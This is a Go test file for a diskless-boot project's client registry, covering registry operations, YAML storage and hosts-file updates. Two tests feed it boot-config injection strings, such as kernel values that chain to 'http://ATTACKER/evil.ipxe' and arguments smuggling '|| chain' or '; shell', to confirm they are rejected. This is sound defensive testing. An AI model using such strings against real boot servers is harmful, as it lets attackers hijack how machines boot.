package slave

import (
	"bytes"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/diskless-project/diskless/internal/fsutil"
)

var testNet = Network{Subnet: netip.MustParsePrefix("192.168.1.0/24"), Master: netip.MustParseAddr("192.168.1.1")}

func ip(s string) netip.Addr { return netip.MustParseAddr(s) }

func TestRegistryAdd(t *testing.T) {
	var r Registry
	for _, s := range []Slave{
		{IP: ip("192.168.1.30"), MAC: "00-02-A5-04-3B-30"},
		{IP: ip("192.168.1.9"), MAC: "0002.a504.3b09", Hostname: "Node9"},
		{IP: ip("192.168.1.100"), MAC: "00:02:a5:04:3b:a0", Arch: "aarch64"},
	} {
		if err := r.Add(s, testNet); err != nil {
			t.Fatal(err)
		}
	}
	want := []Slave{
		{IP: ip("192.168.1.9"), MAC: "00:02:a5:04:3b:09", Hostname: "node9", Arch: "x86_64"},
		{IP: ip("192.168.1.30"), MAC: "00:02:a5:04:3b:30", Hostname: "slave30", Arch: "x86_64"},
		{IP: ip("192.168.1.100"), MAC: "00:02:a5:04:3b:a0", Hostname: "slave100", Arch: "aarch64"},
	}
	if len(r.Slaves) != len(want) {
		t.Fatalf("got %d slaves, want %d", len(r.Slaves), len(want))
	}
	for i := range want {
		if !reflect.DeepEqual(r.Slaves[i], want[i]) {
			t.Errorf("slave %d = %+v, want %+v", i, r.Slaves[i], want[i])
		}
	}

	before := append([]Slave(nil), r.Slaves...)
	for _, tc := range []struct {
		s    Slave
		want string
	}{
		{Slave{IP: ip("192.168.1.30"), MAC: "00:02:a5:04:3b:ff"}, "IP 192.168.1.30 is already registered to slave30: expected an unused IP"},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:A5:04:3B:30"}, "MAC 00:02:a5:04:3b:30 is already registered to 192.168.1.30"},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31", Hostname: "NODE9"}, "hostname node9 is already registered to 192.168.1.9"},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31", Hostname: "42"}, `invalid hostname "42"`},
		{Slave{IP: ip("192.168.1.31"), MAC: "nope"}, `invalid MAC "nope"`},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31", Arch: "mips"}, `invalid arch "mips"`},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31", Comment: "a\nb"}, "invalid comment"},
		{Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31", KernelArgs: "a\rb"}, "invalid kernel args"},
		{Slave{IP: ip("192.168.1.1"), MAC: "00:02:a5:04:3b:31"}, "master's own address"},
		{Slave{MAC: "00:02:a5:04:3b:31"}, "invalid IP"},
	} {
		err := r.Add(tc.s, testNet)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Add(%+v) = %v, want %q", tc.s, err, tc.want)
		}
	}
	if len(r.Slaves) != len(before) {
		t.Fatalf("failed adds changed the registry: %d slaves", len(r.Slaves))
	}
}

func TestRegistryFindReplaceRemove(t *testing.T) {
	var r Registry
	must(t, r.Add(Slave{IP: ip("192.168.1.21"), MAC: "00:02:a5:04:3b:66"}, testNet))
	must(t, r.Add(Slave{IP: ip("192.168.1.22"), MAC: "00:02:a5:04:3b:67", Hostname: "node22"}, testNet))
	for _, key := range []string{"192.168.1.22", "00-02-A5-04-3B-67", "0002.a504.3b67", "NODE22", "node22"} {
		if s, ok := r.Find(key); !ok || s.IP != ip("192.168.1.22") {
			t.Errorf("Find(%q) = %v, %v", key, s, ok)
		}
	}
	for _, key := range []string{"192.168.1.23", "00:02:a5:04:3b:68", "slave22", ""} {
		if s, ok := r.Find(key); ok {
			t.Errorf("Find(%q) = %v, want none", key, s)
		}
	}
	if s, ok := r.FindMAC("00:02:a5:04:3b:66"); !ok || s.Hostname != "slave21" {
		t.Errorf("FindMAC = %v %v", s, ok)
	}

	// Replace may move a slave to a new IP; the list stays sorted.
	i := r.Index(ip("192.168.1.21"))
	must(t, r.Replace(i, Slave{IP: ip("192.168.1.50"), MAC: "00:02:a5:04:3b:66", Hostname: "web"}, testNet))
	if r.Slaves[1].IP != ip("192.168.1.50") || r.Slaves[1].Hostname != "web" {
		t.Errorf("after Replace: %+v", r.Slaves)
	}
	// Keeping its own MAC/hostname is not a duplicate, taking another's is.
	i = r.Index(ip("192.168.1.50"))
	must(t, r.Replace(i, Slave{IP: ip("192.168.1.50"), MAC: "00:02:a5:04:3b:66", Hostname: "web"}, testNet))
	if err := r.Replace(i, Slave{IP: ip("192.168.1.50"), MAC: "00:02:a5:04:3b:66", Hostname: "node22"}, testNet); err == nil {
		t.Error("Replace onto another slave's hostname succeeded")
	}
	if !r.Remove(ip("192.168.1.22")) || r.Remove(ip("192.168.1.22")) || len(r.Slaves) != 1 {
		t.Errorf("Remove: %+v", r.Slaves)
	}
}

func TestRegistryValidate(t *testing.T) {
	for name, tc := range map[string]struct {
		slaves []Slave
		want   string
	}{
		"dup ip":       {[]Slave{{IP: ip("192.168.1.2"), MAC: "00:00:00:00:00:01"}, {IP: ip("192.168.1.2"), MAC: "00:00:00:00:00:02", Hostname: "b"}}, "slave 2: IP 192.168.1.2 is already registered (slave 1)"},
		"dup mac":      {[]Slave{{IP: ip("192.168.1.2"), MAC: "00:00:00:00:00:01"}, {IP: ip("192.168.1.3"), MAC: "00-00-00-00-00-01"}}, "slave 2: MAC 00:00:00:00:00:01 is already registered (slave 1)"},
		"dup hostname": {[]Slave{{IP: ip("192.168.1.2"), MAC: "00:00:00:00:00:01", Hostname: "a"}, {IP: ip("192.168.1.3"), MAC: "00:00:00:00:00:02", Hostname: "A"}}, "slave 2: hostname a is already registered (slave 1)"},
		"outside":      {[]Slave{{IP: ip("10.0.0.2"), MAC: "00:00:00:00:00:01"}}, "slave 1: invalid IP 10.0.0.2: expected an address inside subnet 192.168.1.0/24"},
	} {
		r := Registry{Slaves: tc.slaves}
		if err := r.Validate(testNet); err == nil || err.Error() != tc.want {
			t.Errorf("%s: Validate = %v, want %q", name, err, tc.want)
		}
	}
	r := Registry{Slaves: []Slave{{IP: ip("192.168.1.3"), MAC: "00-00-00-00-00-02"}, {IP: ip("192.168.1.2"), MAC: "00:00:00:00:00:01"}}}
	must(t, r.Validate(testNet))
	if r.Slaves[0].IP != ip("192.168.1.2") || r.Slaves[1].MAC != "00:00:00:00:00:02" {
		t.Errorf("Validate did not sort and normalize: %+v", r.Slaves)
	}
}

func TestStoreRoundTrip(t *testing.T) {
	st := Store{Path: filepath.Join(t.TempDir(), "etc", "slaves.yaml"), Network: testNet}
	r, err := st.Load()
	if err != nil || len(r.Slaves) != 0 {
		t.Fatalf("Load of a missing file = %v, %v; want an empty registry", r, err)
	}
	w := &fsutil.Writer{}
	_, data, err := st.Change(func(r *Registry) error {
		return r.Add(Slave{IP: ip("192.168.1.21"), MAC: "00:02:a5:04:3b:66", Comment: "rack: 3 # top"}, testNet)
	})
	must(t, err)
	if res, err := w.WriteFile(st.Path, data, 0o644); err != nil || res != fsutil.Created {
		t.Fatalf("write = %v, %v", res, err)
	}
	got, err := st.Load()
	must(t, err)
	if len(got.Slaves) != 1 || got.Slaves[0].Comment != "rack: 3 # top" || got.Slaves[0].Hostname != "slave21" {
		t.Errorf("reloaded %+v", got.Slaves)
	}
	if !bytes.HasPrefix(data, []byte("# diskless slave registry.")) {
		t.Errorf("registry lost its header:\n%s", data)
	}

	// A failing change returns nothing to write.
	boom := errors.New("boom")
	if r, out, err := st.Change(func(r *Registry) error {
		r.Slaves = nil
		return boom
	}); !errors.Is(err, boom) || r != nil || out != nil {
		t.Errorf("Change with failing fn = %v, %v", out, err)
	}

	// A hand-edited file with unknown keys or bad values is refused, naming the file.
	must(t, os.WriteFile(st.Path, []byte("slaves:\n  - ip: 192.168.1.5\n    mac: 00:02:a5:04:3b:66\n    colour: red\n"), 0o644))
	if _, err := st.Load(); err == nil || !strings.Contains(err.Error(), st.Path) || !strings.Contains(err.Error(), "colour") {
		t.Errorf("Load of unknown field = %v", err)
	}
	must(t, os.WriteFile(st.Path, []byte("slaves:\n  - ip: 192.168.1.500\n"), 0o644))
	if _, err := st.Load(); err == nil || !strings.Contains(err.Error(), st.Path) {
		t.Errorf("Load of bad IP = %v", err)
	}
}

func TestHosts(t *testing.T) {
	var r Registry
	must(t, r.Add(Slave{IP: ip("192.168.1.21"), MAC: "00:02:a5:04:3b:66"}, testNet))
	orig := "127.0.0.1 localhost\n# keep me\n::1 ip6-localhost"
	got := UpdateHosts(orig, &r, "lan")
	want := orig + "\n# BEGIN diskless slaves (managed by diskless; edits here are overwritten)\n192.168.1.21\tslave21.lan slave21\n# END diskless slaves\n"
	if got != want {
		t.Fatalf("UpdateHosts =\n%q\nwant\n%q", got, want)
	}
	if again := UpdateHosts(got, &r, "lan"); again != got {
		t.Errorf("UpdateHosts is not idempotent:\n%q", again)
	}
	if empty := UpdateHosts(got, &Registry{}, "lan"); empty != orig+"\n" {
		t.Errorf("empty registry left %q", empty)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// TestEncodeRoundTripOddValues: values YAML treats specially survive the
// per-slave encoding byte for byte.
func TestEncodeRoundTripOddValues(t *testing.T) {
	odd := []string{
		strings.Repeat("long words, with: colons # and hashes ", 10),
		`quote "double" and 'single'`, "yes", "null", "0x1F", "- dash", "[list]", "{map}", "*alias", "&anchor", "!tag", "%", "@", "`", "  padded  ", "ünïcödé",
	}
	var r Registry
	for i, c := range odd {
		s := Slave{IP: netip.AddrFrom4([4]byte{192, 168, 1, byte(10 + i)}), MAC: "02:00:00:00:00:" + string("0123456789abcdef"[i%16]) + string("0123456789abcdef"[i/16]), Comment: c}
		if CheckKernelArgs(c) == nil { // the YAML-odd ones a kernel line may carry ("yes", "- dash", "!tag" ...)
			s.KernelArgs = c
		}
		must(t, r.Add(s, testNet))
	}
	data, err := Encode(&r)
	must(t, err)
	st := Store{Path: "x", Network: testNet}
	got, err := st.Decode(data)
	if err != nil {
		t.Fatalf("%v\n%s", err, data)
	}
	for i := range r.Slaves {
		if !reflect.DeepEqual(got.Slaves[i], r.Slaves[i]) {
			t.Errorf("slave %d: %+v, want %+v", i, got.Slaves[i], r.Slaves[i])
		}
	}
}

// TestNormalizeRejectsInjection: values that would add lines or commands to
// a rendered boot config, or that no network card has, are refused with a
// one-line error naming the value (issue 19, items 2 and 12).
func TestNormalizeRejectsInjection(t *testing.T) {
	base := Slave{IP: ip("192.168.1.31"), MAC: "00:02:a5:04:3b:31"}
	for _, tc := range []struct {
		edit func(*Slave)
		want string
	}{
		{func(s *Slave) { s.Kernel = "6.1.0/vmlinuz\nchain http://ATTACKER/evil.ipxe\n#" }, `invalid kernel version "6.1.0/vmlinuz\nchain`},
		{func(s *Slave) { s.Kernel = "6.1.0 initrd=x" }, "invalid kernel version"},
		{func(s *Slave) { s.KernelArgs = "quiet\nLABEL evil" }, `invalid kernel args "quiet\nLABEL evil": character '\n' not allowed`},
		{func(s *Slave) { s.KernelArgs = "x=${net0/ip}" }, `character '$' not allowed`},
		{func(s *Slave) { s.KernelArgs = "quiet || chain http://evil/x" }, `character '|' not allowed`},
		{func(s *Slave) { s.KernelArgs = "quiet && shell" }, `character '&' not allowed`},
		{func(s *Slave) { s.KernelArgs = "quiet ; shell" }, `character ';' not allowed`},
		{func(s *Slave) { s.KernelArgs = "#x" }, `character '#' not allowed`},
		{func(s *Slave) { s.KernelArgs = `a='b' c="d"` }, `character '\'' not allowed`},
		{func(s *Slave) { s.KernelArgs = "x}" }, `character '}' not allowed`},
		{func(s *Slave) { s.KernelArgs = "a\tb" }, `character '\t' not allowed`},
		{func(s *Slave) { s.KernelArgs = strings.Repeat("a", MaxKernelArgs+1) }, "invalid kernel args (1025 bytes): expected at most 1024"},
		{func(s *Slave) { s.BootServer = "s1\nx" }, `invalid boot server "s1\nx"`},
		{func(s *Slave) { s.BootServer = "s 1" }, "invalid boot server"},
		{func(s *Slave) { s.Comment = "\x1b[2Jgone" }, `invalid comment "\x1b[2Jgone": character '\x1b' not allowed`},
		{func(s *Slave) { s.Comment = "evil\u202eright-to-left" }, "invalid comment"},
		{func(s *Slave) { s.Comment = "a\u2028b" }, "invalid comment"},
		{func(s *Slave) { s.Comment = "\xff" }, "expected UTF-8 text"},
		{func(s *Slave) { s.MAC = "ff:ff:ff:ff:ff:ff" }, "invalid MAC ff:ff:ff:ff:ff:ff: the broadcast address; expected a network card's own (unicast) address"},
		{func(s *Slave) { s.MAC = "01:00:5E:00:00:01" }, "invalid MAC 01:00:5e:00:00:01: a multicast address"},
		{func(s *Slave) { s.MAC = "33-33-00-00-00-01" }, "a multicast address"},
		{func(s *Slave) { s.MAC = "000000000000" }, "invalid MAC 00:00:00:00:00:00: all zeros"},
	} {
		s := base
		tc.edit(&s)
		err := s.Normalize(testNet)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("Normalize(%+v) = %v, want %q", s, err, tc.want)
			continue
		}
		if strings.Contains(err.Error(), "\n") {
			t.Errorf("error is not one line: %q", err)
		}
	}
	// What a kernel line legitimately carries still passes, spaces folded.
	s := base
	s.Kernel, s.BootServer, s.Comment = "6.1.0-57-amd64", "192.168.1.2", "rack 3, top — ünïcödé"
	s.KernelArgs = "  console=ttyS0,115200n8   init=/sbin/init  ip=::::n31:eth0:dhcp acpi_osi=!Linux nfsrootdebug loglevel=7 rd.break mem=512M@1G "
	must(t, s.Normalize(testNet))
	if want := "console=ttyS0,115200n8 init=/sbin/init ip=::::n31:eth0:dhcp acpi_osi=!Linux nfsrootdebug loglevel=7 rd.break mem=512M@1G"; s.KernelArgs != want {
		t.Errorf("kernel args normalized to %q, want %q", s.KernelArgs, want)
	}
	s.BootServer = "s1"
	must(t, s.Normalize(testNet))
}

// TestDecodeRejectsHandEditedInjection: the same checks hold for a registry
// edited by hand, with the line of the bad entry.
func TestDecodeRejectsHandEditedInjection(t *testing.T) {
	st := Store{Path: "slaves.yaml", Network: testNet}
	data := "slaves:\n  - ip: 192.168.1.21\n    mac: 00:02:a5:04:3b:21\n  - ip: 192.168.1.22\n    mac: 00:02:a5:04:3b:22\n    kernel: \"6.1.0\\nchain http://evil/x.ipxe\"\n"
	_, err := st.Decode([]byte(data))
	if err == nil || !strings.Contains(err.Error(), `registry slaves.yaml:4: slave 2: invalid kernel version "6.1.0\nchain http://evil/x.ipxe"`) {
		t.Fatalf("Decode = %v", err)
	}
}

// A default hostname is unique beyond a /24: slave<last octet> when free,
// else slave-A-B-C-D.
func TestRegistryAddDefaultHostnameWideSubnet(t *testing.T) {
	n := Network{Subnet: netip.MustParsePrefix("10.0.0.0/16"), Master: netip.MustParseAddr("10.0.0.1")}
	r := &Registry{}
	for i, ip := range []string{"10.0.2.5", "10.0.3.5", "10.0.4.5"} {
		if err := r.Add(Slave{IP: netip.MustParseAddr(ip), MAC: fmt.Sprintf("00:02:a5:00:00:%02x", i+1)}, n); err != nil {
			t.Fatalf("add %s: %v", ip, err)
		}
	}
	var got []string
	for _, s := range r.Slaves {
		got = append(got, s.Hostname)
	}
	if want := []string{"slave5", "slave-10-0-3-5", "slave-10-0-4-5"}; !slices.Equal(got, want) {
		t.Fatalf("hostnames %v, want %v", got, want)
	}
}

// TestEqualIsDeepEqual: Equal tells apart slaves that differ in any one
// field (a field added to Slave and forgotten in Equal fails here), and
// agrees with reflect.DeepEqual on nil and empty groups.
func TestEqualIsDeepEqual(t *testing.T) {
	base := Slave{IP: netip.MustParseAddr("10.0.0.5"), MAC: "02:00:00:00:00:05", Hostname: "n5", Groups: []string{"a"}}
	typ := reflect.TypeOf(base)
	for i := range typ.NumField() {
		o := base
		o.Groups = slices.Clone(base.Groups)
		f := reflect.ValueOf(&o).Elem().Field(i)
		switch f.Kind() {
		case reflect.String:
			f.SetString(f.String() + "x")
		case reflect.Slice:
			f.Set(reflect.ValueOf([]string{"a", "b"}))
		default:
			f.Set(reflect.ValueOf(netip.MustParseAddr("10.0.0.6")))
		}
		if base.Equal(&o) || reflect.DeepEqual(base, o) {
			t.Errorf("slaves differing in %s are Equal", typ.Field(i).Name)
		}
		if o2 := o; !o.Equal(&o2) {
			t.Errorf("a copy differing in nothing is not Equal (field %s)", typ.Field(i).Name)
		}
	}
	a, b := base, base
	a.Groups, b.Groups = nil, []string{}
	if a.Equal(&b) != reflect.DeepEqual(a, b) {
		t.Errorf("nil and empty groups: Equal %v, DeepEqual %v", a.Equal(&b), reflect.DeepEqual(a, b))
	}
}
